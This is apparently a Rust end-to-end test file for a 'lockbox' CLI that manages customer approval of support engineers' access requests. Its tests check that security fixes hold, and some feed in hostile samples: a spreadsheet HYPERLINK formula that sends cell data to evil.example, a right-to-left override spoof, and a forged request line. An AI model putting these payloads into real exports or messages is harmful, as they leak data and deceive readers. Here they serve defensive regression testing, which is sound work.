//! The `lockbox` CLI end to end on a temp store, with the clock pinned by
//! `LOCKBOX_NOW` (no test sleeps to wait for a deadline).

#![allow(clippy::unwrap_used)]

use assert_cmd::Command;
use serde_json::Value;
use std::path::PathBuf;

struct Store {
    _dir: tempfile::TempDir,
    db: PathBuf,
    now: String,
}

const T0: &str = "2026-11-29T09:00:00Z";

/// The OS user running the tests: the store's first admin and the one who
/// makes every customer decision through the CLI.
fn me() -> String {
    lockbox_core::Principal::current_os_user()
        .name()
        .to_string()
}

impl Store {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let db = dir.path().join("lockbox.db");
        Store {
            _dir: dir,
            db,
            now: T0.into(),
        }
    }

    fn at(&mut self, now: &str) -> &mut Self {
        self.now = now.into();
        self
    }

    fn cmd(&self, args: &[&str]) -> assert_cmd::assert::Assert {
        Command::cargo_bin("lockbox")
            .unwrap()
            .env("LOCKBOX_DB", &self.db)
            .env("LOCKBOX_NOW", &self.now)
            .env_remove("LOCKBOX_TENANT")
            .args(args)
            .assert()
    }

    fn ok(&self, args: &[&str]) -> String {
        String::from_utf8(self.cmd(args).success().get_output().stdout.clone()).unwrap()
    }

    fn json(&self, args: &[&str]) -> Value {
        let mut a = args.to_vec();
        a.push("--json");
        serde_json::from_str(&self.ok(&a)).unwrap()
    }

    /// Runs a command expected to fail with `code`; returns stderr.
    fn fails(&self, code: i32, args: &[&str]) -> String {
        String::from_utf8(self.cmd(args).code(code).get_output().stderr.clone()).unwrap()
    }

    fn file(&self, engineer: &str, extra: &[&str]) -> String {
        // `--engineer=VALUE`: a value may start with '-'.
        let engineer = format!("--engineer={engineer}");
        let mut a = vec![
            "request",
            "new",
            &engineer,
            "--case",
            "SR-100",
            "--workload",
            "Exchange Online",
            "--resource",
            "Mailbox: ceo@contoso.example",
            "--reason",
            "Mail flow issue",
        ];
        a.extend_from_slice(extra);
        let v = self.json(&a);
        v["id"].as_str().unwrap().to_string()
    }

    fn state(&self, id: &str) -> String {
        self.json(&["request", "show", id])["state"]
            .as_str()
            .unwrap()
            .to_string()
    }

    fn ops(&self, id: &str) -> Vec<String> {
        let v = self.json(&["audit", "list", "--request", id, "--limit", "100"]);
        let mut ops: Vec<String> = v
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["operation"].as_str().unwrap().to_string())
            .collect();
        ops.reverse();
        ops
    }
}

#[test]
fn the_full_story_file_approve_use_end() {
    let mut s = Store::new();
    let id = s.file("eng.alex", &["--duration", "2h"]);
    let v = s.json(&["request", "show", &id]);
    for key in [
        "id",
        "tenant",
        "state",
        "case",
        "workload",
        "resource",
        "reason",
        "requester",
        "requested_duration_s",
        "created_at",
        "expires_at",
        "approved_at",
        "access_ends_at",
        "decisions",
    ] {
        assert!(v.get(key).is_some(), "request JSON lacks {key}: {v}");
    }
    assert_eq!(v["state"], "awaiting_provider");
    assert_eq!(v["requested_duration_s"], 7200);
    assert_eq!(v["expires_at"], "2026-11-29T21:00:00Z");
    assert!(v["approved_at"].is_null());
    // Nothing is accessible before approval.
    s.cmd(&["access", "check", &id])
        .code(1)
        .stdout(predicates::str::contains("denied"));
    s.at("2026-11-29T09:05:00Z")
        .ok(&["request", "provider-approve", &id, "--as", "mgr.sam"]);
    assert_eq!(s.state(&id), "pending");
    let v = s.at("2026-11-29T09:10:00Z").json(&[
        "request",
        "approve",
        &id,
        "--comment",
        "go ahead",
        "--duration",
        "1h",
    ]);
    assert_eq!(v["state"], "approved");
    assert_eq!(v["approved_at"], "2026-11-29T09:10:00Z");
    assert_eq!(v["access_ends_at"], "2026-11-29T10:10:00Z");
    assert_eq!(v["decisions"].as_array().unwrap().len(), 2);
    s.cmd(&["access", "check", &id])
        .success()
        .stdout(predicates::str::contains("allowed"));
    s.ok(&[
        "access",
        "log",
        &id,
        "--as",
        "eng.alex",
        "--action",
        "Read message trace",
    ]);
    // Someone else cannot use the grant.
    s.fails(
        1,
        &[
            "access",
            "log",
            &id,
            "--as",
            "eng.other",
            "--action",
            "peek",
        ],
    );
    // The window ends by itself.
    s.at("2026-11-29T10:10:00Z");
    s.cmd(&["access", "check", &id])
        .code(1)
        .stdout(predicates::str::contains("ended"));
    let err = s.fails(
        1,
        &[
            "access",
            "log",
            &id,
            "--as",
            "eng.alex",
            "--action",
            "one more look",
        ],
    );
    assert!(err.contains("access_denied"), "{err}");
    assert_eq!(s.state(&id), "completed");
    assert_eq!(
        s.ops(&id),
        [
            "request_created",
            "provider_approved",
            "approved",
            "access_used",
            "access_denied",
            "completed",
            "access_denied"
        ]
    );
    s.cmd(&["audit", "verify"])
        .success()
        .stdout(predicates::str::contains("intact"));
}

#[test]
fn reject_expire_cancel_and_revoke() {
    let mut s = Store::new();
    // Reject.
    let a = s.file("eng1", &[]);
    s.ok(&["request", "provider-approve", &a, "--as", "mgr"]);
    s.ok(&["request", "reject", &a, "--comment", "not now"]);
    assert_eq!(s.state(&a), "rejected");
    let err = s.fails(1, &["request", "approve", &a]);
    assert!(err.contains("never changes"), "{err}");
    // Expiry after the (configured) lifetime, with no timer involved.
    s.ok(&["settings", "set", "request-lifetime", "30m"]);
    let b = s.file("eng1", &[]);
    s.ok(&["request", "provider-approve", &b, "--as", "mgr"]);
    s.at("2026-11-29T09:29:59Z");
    assert_eq!(s.state(&b), "pending");
    s.at("2026-11-29T09:30:00Z");
    let err = s.fails(1, &["request", "approve", &b]);
    assert!(
        err.contains("request_expired") || err.contains("expired"),
        "{err}"
    );
    assert_eq!(s.state(&b), "expired");
    let exp = s.json(&["audit", "list", "--request", &b, "--operation", "expired"]);
    assert_eq!(
        exp[0]["at"], "2026-11-29T09:30:00Z",
        "effective time is the deadline"
    );
    // Cancel: only the requester.
    let c = s.file("eng2", &[]);
    s.fails(1, &["request", "cancel", &c, "--as", "eng9"]);
    s.ok(&["request", "cancel", &c, "--as", "eng2"]);
    assert_eq!(s.state(&c), "canceled");
    // Revoke ends access early.
    let d = s.file("eng3", &[]);
    s.ok(&["request", "provider-approve", &d, "--as", "mgr"]);
    s.ok(&["request", "approve", &d]);
    s.cmd(&["access", "check", &d]).success();
    s.ok(&["request", "revoke", &d, "--comment", "case closed"]);
    assert_eq!(s.state(&d), "revoked");
    s.cmd(&["access", "check", &d])
        .code(1)
        .stdout(predicates::str::contains("revoked"));
}

#[test]
fn lockbox_off_auto_approves_and_quorum_of_two() {
    let s = Store::new();
    s.ok(&["settings", "set", "lockbox", "off"]);
    let a = s.file("eng1", &["--duration", "1h"]);
    s.ok(&["request", "provider-approve", &a, "--as", "mgr"]);
    assert_eq!(s.state(&a), "approved");
    assert_eq!(
        s.ops(&a),
        ["request_created", "provider_approved", "auto_approved"]
    );
    // Turning it back on does not touch existing requests; new ones need a quorum of 2.
    s.ok(&["settings", "set", "lockbox", "on"]);
    s.ok(&["settings", "set", "approvals-required", "2"]);
    s.ok(&[
        "user",
        "add",
        "alice",
        "--role",
        "approver",
        "--email",
        "alice@contoso.example",
    ]);
    s.ok(&["user", "add", "bob", "--role", "approver"]);
    assert_eq!(s.state(&a), "approved");
    let b = s.file("eng1", &[]);
    s.ok(&["request", "provider-approve", &b, "--as", "mgr"]);
    s.ok(&["request", "approve", &b]);
    assert_eq!(s.state(&b), "pending", "one approval of two");
    // One OS user is one person: the second approval must come from another.
    let err = s.fails(1, &["request", "approve", &b]);
    assert!(err.contains("already_decided"), "{err}");
    assert_eq!(s.state(&b), "pending");
    let changes = s.json(&["audit", "list", "--operation", "settings_changed"]);
    assert_eq!(changes.as_array().unwrap().len(), 3);
}

/// Security finding: `--as alice` then `LOCKBOX_USER=bob` approved twice as
/// two people. A customer decision is made by the OS user running the
/// process; names typed on the command line or set in the environment are
/// refused or ignored, and the decision's audit entry records the uid.
#[test]
fn one_os_user_cannot_satisfy_a_quorum_of_two() {
    let s = Store::new();
    s.ok(&["settings", "set", "approvals-required", "2"]);
    s.ok(&["user", "add", "alice", "--role", "approver"]);
    s.ok(&["user", "add", "bob", "--role", "approver"]);
    let b = s.file("eng1", &[]);
    s.ok(&["request", "provider-approve", &b, "--as", "mgr"]);
    // --as is for provider-side names: refused for customer commands, nothing changes.
    for args in [
        &["request", "approve", &b, "--as", "alice"][..],
        &["request", "reject", &b, "--as", "bob"],
        &["settings", "set", "lockbox", "off", "--as", "alice"],
        &["user", "add", "mallory", "--role", "admin", "--as", "alice"],
        &["token", "issue", "--name", "x", "--as", "alice"],
    ] {
        let err = s.fails(2, args);
        assert!(err.contains("OS user"), "{args:?}: {err}");
    }
    assert_eq!(s.state(&b), "pending");
    // The environment names nobody either.
    let approve_as = |user: &str| {
        Command::cargo_bin("lockbox")
            .unwrap()
            .env("LOCKBOX_DB", &s.db)
            .env("LOCKBOX_NOW", &s.now)
            .env("LOCKBOX_USER", user)
            .env("USER", user)
            .env("LOGNAME", user)
            .args(["--json", "request", "approve", &b])
            .assert()
    };
    let v: Value =
        serde_json::from_slice(&approve_as("alice").success().get_output().stdout).unwrap();
    assert_eq!(v["state"], "pending");
    assert_eq!(v["decisions"][1]["actor"], me().as_str());
    let err = approve_as("bob").code(1).get_output().stderr.clone();
    assert!(
        String::from_utf8_lossy(&err).contains("already_decided"),
        "{}",
        String::from_utf8_lossy(&err)
    );
    assert_eq!(s.state(&b), "pending", "one OS user counted once");
    // The decision's audit entry says how the decider was authenticated.
    let e = s.json(&["audit", "list", "--request", &b, "--operation", "approved"]);
    assert_eq!(e[0]["actor"], me().as_str());
    assert_eq!(e[0]["details"]["authn"]["method"], "os_user");
    assert_eq!(
        e[0]["details"]["authn"]["uid"].as_u64(),
        Some(u64::from(nix_uid()))
    );
}

fn nix_uid() -> u32 {
    match *lockbox_core::Principal::current_os_user().authn() {
        lockbox_core::identity::Authn::OsUser { uid } => uid,
        ref other => panic!("the CLI's user is not an OS user: {other:?}"),
    }
}

/// Security finding: `Alex@provider.example` approved a request filed by
/// `alex@provider.example`. "Same person" compares normalized identities.
#[test]
fn a_case_or_width_change_is_still_the_same_person() {
    let s = Store::new();
    let a = s.file("alex@provider.example", &[]);
    for manager in [
        "Alex@provider.example",
        "ALEX@PROVIDER.EXAMPLE",
        "ａｌｅｘ@provider.example",
    ] {
        let err = s.fails(1, &["request", "provider-approve", &a, "--as", manager]);
        assert!(err.contains("self_approval"), "{manager}: {err}");
    }
    assert_eq!(s.state(&a), "awaiting_provider");
    s.ok(&[
        "request",
        "provider-approve",
        &a,
        "--as",
        "sam@provider.example",
    ]);
    let err = s.fails(
        1,
        &[
            "request",
            "provider-approve",
            &a,
            "--as",
            "SAM@provider.example",
        ],
    );
    assert!(
        err.contains("never changes") || err.contains("invalid_transition"),
        "{err}"
    );
    // The requester may cancel however they spell their name.
    let c = s.file("alex@provider.example", &[]);
    s.ok(&["request", "cancel", &c, "--as", "Alex@Provider.Example"]);
    assert_eq!(s.state(&c), "canceled");
    // Customer side: a user "Alice" cannot be added beside "alice".
    s.ok(&["user", "add", "alice", "--role", "approver"]);
    let err = s.fails(1, &["user", "add", "ALICE", "--role", "approver"]);
    assert!(err.contains("already_exists"), "{err}");
}

/// Security finding: CSV formula injection in `audit export --format csv`.
#[test]
fn a_csv_export_never_holds_a_formula() {
    let s = Store::new();
    let evil = r#"=HYPERLINK("https://evil.example/?"&A1,"Open")"#;
    for engineer in [evil, "+1+1", "-2+3", "@SUM(A1:A9)"] {
        s.file(engineer, &[]);
    }
    let csv = s.ok(&["audit", "export", "--format", "csv"]);
    let mut rd = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let actor = rd
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "actor")
        .unwrap();
    let mut actors = Vec::new();
    for rec in rd.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !matches!(
                    cell.chars().next(),
                    Some('=' | '+' | '-' | '@' | '\t' | '\r')
                ),
                "a cell a spreadsheet evaluates: {cell:?}"
            );
        }
        actors.push(lockbox_core::text::csv_cell_decode(&rec[actor]).to_string());
    }
    // Nothing is lost: the escape is reversible.
    assert!(actors.iter().any(|a| a == evil), "{actors:?}");
    assert!(actors.iter().any(|a| a == "-2+3"), "{actors:?}");
}

/// Line breaks and bidi controls in one-line fields forged lines in the email
/// and in `request show`: they are refused at input (exit 2, nothing stored).
#[test]
fn one_line_fields_refuse_line_breaks_and_bidi_controls() {
    let s = Store::new();
    let before = s
        .json(&["audit", "list", "--limit", "1000"])
        .as_array()
        .unwrap()
        .len();
    for (flag, value) in [
        ("--case", "SR-1\nRequest ID:    forged"),
        ("--resource", "Mailbox: ceo\u{202E}moc.elpmaxe"),
        ("--workload", "Teams\tExchange"),
        ("--engineer", "alex\u{2066}@provider.example"),
    ] {
        let mut a = vec![
            "request",
            "new",
            "--engineer",
            "eng",
            "--case",
            "SR-1",
            "--workload",
            "Teams",
            "--resource",
            "r",
            "--reason",
            "r",
        ];
        let i = a.iter().position(|x| *x == flag).unwrap();
        a[i + 1] = value;
        let err = s.fails(2, &a);
        assert!(err.contains("invalid_input"), "{flag}: {err}");
    }
    // A reason may have several lines; still no bidi controls.
    s.file("eng", &[]);
    let mut a = vec![
        "request",
        "new",
        "--engineer",
        "eng",
        "--case",
        "SR-2",
        "--workload",
        "Teams",
        "--resource",
        "r",
        "--reason",
        "line one\nline two",
    ];
    s.ok(&a);
    a[11] = "evil \u{202E}txt.exe";
    s.fails(2, &a);
    let after = s
        .json(&["audit", "list", "--limit", "1000"])
        .as_array()
        .unwrap()
        .len();
    assert_eq!(after, before + 2, "only the two valid requests were stored");
}

#[test]
fn a_huge_token_lifetime_is_refused_not_a_panic() {
    let s = Store::new();
    let err = s.fails(
        2,
        &["token", "issue", "--name", "x", "--expires", "999999999d"],
    );
    assert!(err.contains("at most"), "{err}");
    let v = s.json(&["token", "issue", "--name", "y", "--expires", "3650d"]);
    assert!(v["token"].as_str().unwrap().starts_with("lbx_"));
}

#[test]
fn serve_refuses_a_pinned_clock() {
    let s = Store::new();
    let err = s.fails(2, &["serve", "--bind", "127.0.0.1:0"]);
    assert!(err.contains("LOCKBOX_NOW"), "{err}");
}

#[test]
fn rules_and_bad_input_have_clear_errors_and_exit_codes() {
    let s = Store::new();
    let a = s.file("eng1", &[]);
    // Self-approval at both levels; strangers cannot decide; approvers cannot change settings.
    assert!(s
        .fails(1, &["request", "provider-approve", &a, "--as", "eng1"])
        .contains("self_approval"));
    s.ok(&["request", "provider-approve", &a, "--as", "mgr"]);
    // The OS user (the store's admin) cannot approve a request they filed.
    let mine = s.file(&me(), &[]);
    s.ok(&["request", "provider-approve", &mine, "--as", "mgr"]);
    assert!(s
        .fails(1, &["request", "approve", &mine])
        .contains("self_approval"));
    // Bad input: exit 2, nothing changes.
    let before = s
        .json(&["audit", "list", "--limit", "1000"])
        .as_array()
        .unwrap()
        .len();
    assert!(s
        .fails(2, &["request", "approve", &a, "--duration", "90x"])
        .contains("not a duration"));
    assert!(s
        .fails(2, &["settings", "set", "request-lifetime", "31d"])
        .contains("request-lifetime"));
    assert!(s
        .fails(2, &["settings", "set", "colour", "blue"])
        .contains("unknown setting"));
    assert!(s
        .fails(
            1,
            &[
                "request",
                "new",
                "--engineer",
                "e",
                "--case",
                "c",
                "--workload",
                "w",
                "--resource",
                "r",
                "--reason",
                "x",
                "--duration",
                "5h"
            ]
        )
        .contains("duration_too_long"));
    assert!(s
        .fails(2, &["user", "add", "x", "--role", "owner"])
        .contains("not a valid role"));
    assert!(s
        .fails(
            2,
            &["user", "add", "x", "--role", "admin", "--email", "nope"]
        )
        .contains("not an email"));
    assert!(s
        .fails(1, &["request", "show", "ffffffff-0000"])
        .contains("not_found"));
    s.fails(2, &["request", "frobnicate"]);
    assert_eq!(
        s.json(&["audit", "list", "--limit", "1000"])
            .as_array()
            .unwrap()
            .len(),
        before
    );
    assert_eq!(s.state(&a), "pending");
    // JSON errors are {code, message}.
    let out = s
        .cmd(&["--json", "request", "reject", "nonexistent-id"])
        .code(1)
        .get_output()
        .stderr
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["code"], "not_found");
    assert!(v["message"].as_str().unwrap().contains("nonexistent-id"));
}

#[test]
fn a_newer_or_broken_store_exits_3() {
    let s = Store::new();
    s.ok(&["settings", "show"]);
    rusqlite_set_version(&s.db, 999);
    let err = s.fails(3, &["request", "list"]);
    assert!(err.contains("newer Lockbox"), "{err}");
    let t = Store::new();
    std::fs::write(
        &t.db,
        b"this is not a database, just some text that is long enough to look like a file....",
    )
    .unwrap();
    t.fails(3, &["request", "list"]);
}

fn rusqlite_set_version(db: &std::path::Path, v: i64) {
    // The sqlite3 shell may be missing; poke the header's user_version field (offset 60) directly.
    let mut bytes = std::fs::read(db).unwrap();
    bytes[60..64].copy_from_slice(&(v as u32).to_be_bytes());
    std::fs::write(db, bytes).unwrap();
}

#[test]
fn export_csv_and_jsonl_and_verify() {
    let s = Store::new();
    let a = s.file("eng1", &[]);
    s.ok(&["request", "provider-approve", &a, "--as", "mgr"]);
    s.ok(&[
        "request",
        "approve",
        &a,
        "--comment",
        "ok, \"quoted\", with comma",
    ]);
    let dir = tempfile::tempdir().unwrap();
    let csv_path = dir.path().join("audit.csv");
    s.ok(&[
        "audit",
        "export",
        "--format",
        "csv",
        "--out",
        csv_path.to_str().unwrap(),
    ]);
    let mut rdr = csv::Reader::from_path(&csv_path).unwrap();
    let header: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, lockbox_core::export::COLUMNS);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
    assert_eq!(
        rows.len(),
        6,
        "tenant_added, user_added, receipt_key_created, created, provider_approved, approved"
    );
    assert_eq!(&rows[2][col("operation")], "receipt_key_created");
    assert_eq!(&rows[5][col("operation")], "approved");
    assert_eq!(&rows[5][col("tenant_seq")], "6");
    let details: Value = serde_json::from_str(&rows[5][col("details")]).unwrap();
    assert_eq!(
        details["comment"], "ok, \"quoted\", with comma",
        "details survive CSV quoting"
    );
    let jsonl = s.ok(&[
        "audit",
        "export",
        "--format",
        "jsonl",
        "--operation",
        "approved",
    ]);
    let lines: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 1);
    assert_eq!(lines[0]["request_id"], a.as_str());
    // `details` is the hashed JSON text, exactly (docs/audit-format.md).
    let details: Value = serde_json::from_str(lines[0]["details"].as_str().unwrap()).unwrap();
    assert_eq!(details["comment"], "ok, \"quoted\", with comma");
    let v = s.json(&["audit", "verify"]);
    assert_eq!(v["ok"], true);
    assert_eq!(v["entries"], 6);
    assert!(s
        .fails(2, &["audit", "export", "--format", "xml"])
        .contains("export format"));
}

#[test]
fn tenants_users_prefix_ids_and_demo() {
    let s = Store::new();
    s.ok(&["tenant", "add", "fabrikam", "--name", "Fabrikam Ltd"]);
    let tenants = s.json(&["tenant", "list"]);
    assert_eq!(tenants.as_array().unwrap().len(), 2);
    // Requests are per tenant.
    let a = s.file("eng1", &[]);
    s.fails(1, &["--tenant", "fabrikam", "request", "show", &a]);
    let demo = s.json(&["--tenant", "fabrikam", "demo"]);
    assert_eq!(demo.as_array().unwrap().len(), 4);
    let pending = s.json(&[
        "--tenant", "fabrikam", "request", "list", "--state", "pending",
    ]);
    assert_eq!(pending.as_array().unwrap().len(), 3);
    // A unique prefix of an id works.
    let short = &a[..13];
    assert_eq!(s.json(&["request", "show", short])["id"], a.as_str());
    // So does the tail the admin center shows.
    let tail = &a[a.len() - 8..];
    assert_eq!(s.json(&["request", "show", tail])["id"], a.as_str());
    // The last admin cannot be removed.
    assert!(s
        .fails(1, &["user", "remove", &me()])
        .contains("last admin"));
    s.ok(&["user", "add", "alice", "--role", "admin"]);
    s.ok(&["user", "remove", "alice"]);
    let ops: Vec<String> = s
        .json(&["audit", "list"])
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["operation"].as_str().unwrap().to_string())
        .collect();
    assert!(ops.contains(&"user_removed".to_string()));
}

#[test]
fn a_missing_receipt_key_is_refused_until_rotate_key_which_is_audited() {
    let s = Store::new();
    let id = s.file("eng.alex", &[]);
    s.ok(&["request", "provider-approve", &id]);
    s.ok(&["request", "approve", &id]);
    let old = s.json(&["receipt", "public-key"]);
    let key = s.db.with_file_name("lockbox-receipts.key");
    std::fs::remove_file(&key).unwrap();
    let err = s.fails(3, &["request", "list"]);
    assert!(
        err.contains("lockbox-receipts.key")
            && err.contains("missing")
            && err.contains("lockbox receipt rotate-key"),
        "{err}"
    );
    assert!(!key.exists(), "no key was made behind the admin's back");
    let rotated = s.json(&["receipt", "rotate-key"]);
    assert_eq!(rotated["previous_key_id"], old["key_id"]);
    assert_ne!(rotated["key_id"], old["key_id"]);
    let v = s.json(&[
        "audit",
        "list",
        "--operation",
        "receipt_key_rotated",
        "--limit",
        "10",
    ]);
    assert_eq!(v.as_array().unwrap().len(), 1, "{v}");
    assert_eq!(v[0]["actor"], "root");
    assert_eq!(s.json(&["receipt", "public-key"]), {
        let mut want = rotated.clone();
        want.as_object_mut().unwrap().remove("previous_key_id");
        want
    });
}

#[test]
fn audit_verify_reads_an_auditors_copy_without_its_key_and_changes_nothing() {
    let mut s = Store::new();
    let a = s.file("eng1", &[]);
    s.ok(&["request", "provider-approve", &a, "--as", "mgr"]);
    let live = s.json(&["audit", "verify"]);
    // The copy an auditor is handed: the store file alone, no receipt key;
    // a deadline has passed since (nothing may be swept into it).
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("archive.db");
    std::fs::copy(&s.db, &copy).unwrap();
    let wal = PathBuf::from(format!("{}-wal", s.db.display()));
    if wal.exists() {
        std::fs::copy(&wal, format!("{}-wal", copy.display())).unwrap();
    }
    let listing = |d: &std::path::Path| {
        let mut v: Vec<_> = std::fs::read_dir(d)
            .unwrap()
            .map(|e| {
                let p = e.unwrap().path();
                (p.clone(), std::fs::read(&p).unwrap())
            })
            .collect();
        v.sort();
        v
    };
    let before = listing(dir.path());
    s.at("2026-12-09T09:00:00Z");
    let out = Command::cargo_bin("lockbox")
        .unwrap()
        .env("LOCKBOX_NOW", &s.now)
        .args(["--json", "--db"])
        .arg(&copy)
        .args(["audit", "verify"])
        .assert()
        .success()
        .get_output()
        .stdout
        .clone();
    let v: Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(v["ok"], true, "{v}");
    assert_eq!(v["entries"], live["entries"]);
    assert_eq!(v["head_hash"], live["head_hash"]);
    assert_eq!(listing(dir.path()), before, "the copy is not written to");
}

/// A service unit or shell profile may leave `LOCKBOX_DB` set: a store named
/// by `LOCKBOX_STORE` or `--store` takes its place, `--db` typed on the
/// command line beats `LOCKBOX_STORE`, and both typed are refused.
#[test]
fn the_store_named_last_wins_over_an_inherited_lockbox_db() {
    let inherited = Store::new();
    let named = Store::new();
    let id = named.file("eng", &[]);
    let show = |args: &[&str], env: &[(&str, &PathBuf)]| {
        let mut c = Command::cargo_bin("lockbox").unwrap();
        c.env_remove("LOCKBOX_DB")
            .env_remove("LOCKBOX_STORE")
            .env_remove("LOCKBOX_TENANT")
            .env("LOCKBOX_NOW", T0);
        for (k, v) in env {
            c.env(k, v);
        }
        c.args(args).args(["request", "show", &id]).assert()
    };
    // LOCKBOX_STORE beats the inherited LOCKBOX_DB.
    show(
        &[],
        &[("LOCKBOX_DB", &inherited.db), ("LOCKBOX_STORE", &named.db)],
    )
    .success();
    // --store beats it too.
    let named_db = named.db.to_str().unwrap();
    show(&["--store", named_db], &[("LOCKBOX_DB", &inherited.db)]).success();
    // --db typed on the command line beats LOCKBOX_STORE.
    show(&["--db", named_db], &[("LOCKBOX_STORE", &inherited.db)]).success();
    show(&[], &[("LOCKBOX_DB", &inherited.db)]).code(1);
    // Both typed: refused, a usage error, nothing opened.
    let other = named.db.with_file_name("never.db");
    let out = show(&["--db", other.to_str().unwrap(), "--store", named_db], &[]).code(2);
    let err = String::from_utf8_lossy(&out.get_output().stderr).into_owned();
    assert!(err.contains("--db and --store"), "{err}");
    assert!(!other.exists());
}
